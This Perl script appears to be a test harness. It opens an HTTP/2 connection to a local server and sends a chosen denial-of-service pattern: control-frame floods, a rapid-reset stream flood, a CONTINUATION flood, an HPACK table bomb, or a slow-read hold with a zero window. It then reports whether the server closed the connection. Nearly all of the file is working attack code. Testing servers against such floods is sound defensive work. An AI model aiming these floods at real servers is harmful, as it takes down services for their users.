#!/usr/bin/perl
# h2_flood.pl PORT KIND TOKEN - a hostile HTTP/2 client (RFC 9113, prior knowledge, plain TCP) that never reads more
# than it must. Prints "closed after N frames" when the server ended the connection, "open after N frames" when all
# was taken (then it waits for the end of its standard input, holding what it asked for).
use strict;
use warnings;
use IO::Socket::INET;

my ($port, $kind, $token) = @ARGV;
my $s = IO::Socket::INET->new(PeerAddr => '127.0.0.1', PeerPort => $port, Proto => 'tcp') or die "connect: $!";
$SIG{PIPE} = 'IGNORE';
my $sent = 0;

sub frame { my ($type, $flags, $stream, $payload) = @_; return substr(pack('N', length $payload), 1) . pack('CCN', $type, $flags, $stream) . $payload; }
sub literal { my ($name, $value) = @_; return "\x00" . number(0, 7, length $name) . $name . number(0, 7, length $value) . $value; }

sub number { # RFC 7541, 5.1
    my ($first, $bits, $n) = @_;
    my $max = (1 << $bits) - 1;
    return chr($first | $n) if $n < $max;
    my $out = chr($first | $max);
    for ($n -= $max; $n >= 128; $n >>= 7) { $out .= chr($n % 128 | 128); }
    return $out . chr $n;
}

sub headers { # of a GET (2) or POST (3)
    my ($path, $method) = @_;
    return chr(0x80 | ($method // 2)) . "\x86" . "\x04" . number(0, 7, length $path) . $path . "\x41\x01a" . literal('authorization', "Bearer $token");
}

# Sends all, without reading; ends the program when the server is gone or takes nothing for 3 s.
sub put {
    my ($bytes) = @_;
    my $at = 0;
    while ($at < length $bytes) {
        my $w = '';
        vec($w, fileno($s), 1) = 1;
        my $ready = select(undef, $w, undef, 3);
        done('stalled') if !$ready;
        my $n = $s->syswrite($bytes, length($bytes) - $at, $at);
        done('closed') if !defined $n && !$!{EAGAIN};
        $at += $n // 0;
    }
    $sent++;
}

sub done { print "$_[0] after $sent frames\n"; exit 0; }

$s->blocking(0);
my $window = $kind =~ /^slow/ ? pack('nN', 4, 0) : ''; # SETTINGS_INITIAL_WINDOW_SIZE 0: nothing may be sent to us
put("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" . frame(4, 0, 0, $window));
my $get = headers('/api/v1/namespaces/default/configmaps?limit=1');
my %flood = (
    settings => sub { frame(4, 0, 0, pack('nN', 3, 100)) x 100 },
    ping => sub { frame(6, 0, 0, 'x' x 8) x 100 },
    reset => sub { my $id = 2 * $sent + 1; frame(1, 5, $id, $get) . frame(3, 0, $id, pack('N', 8)) },
    continuation => sub { $sent == 1 ? frame(1, 1, 1, $get) : frame(9, 0, 1, literal('x', 'y' x 10000)) },
    # one entry of the dynamic table named ten thousand times
    bomb => sub { $sent == 1 ? frame(1, 5, 1, $get . "\x40\x01x" . number(0, 7, 3000) . 'z' x 3000) : frame(1, 5, 2 * $sent - 1, $get . "\xbe" x 10000) },
    priority => sub { my $id = 2 * $sent + 1; frame(2, 0, $id, pack('NC', 0, 1)) x 100 },
    window => sub { frame(8, 0, 0, pack('N', 1)) x 100 },
    data => sub { $sent == 1 ? frame(1, 4, 1, headers('/api/v1/namespaces/default/configmaps', 3)) : frame(0, 0, 1, '') x 100 },
    unknown => sub { frame(0x77, 0, 0, 'x' x 16000) },
    streams => sub { my $id = 2 * $sent + 1; frame(1, 5, $id, headers('/api/v1/configmaps?watch=1')) },
);
if (my ($path) = $kind =~ /^slow=(.*)/) {
    for my $i (0 .. 199) { put(frame(1, 5, 2 * $i + 1, headers($path) . literal('accept', $ENV{ACCEPT} // 'application/json'))); }
    $| = 1;
    print "open after $sent frames\n";
    my $line = <STDIN>;
    exit 0;
}
my $next = $flood{$kind} or die "no flood $kind";
for (1 .. 20000) { put($next->()); }
# the last word: is the connection still there?
my $r = '';
vec($r, fileno($s), 1) = 1;
my $buf;
while (select($r, undef, undef, 1)) {
    my $n = $s->sysread($buf, 65536);
    done('closed') if !$n && !$!{EAGAIN};
    vec($r, fileno($s), 1) = 1;
}
done('open');
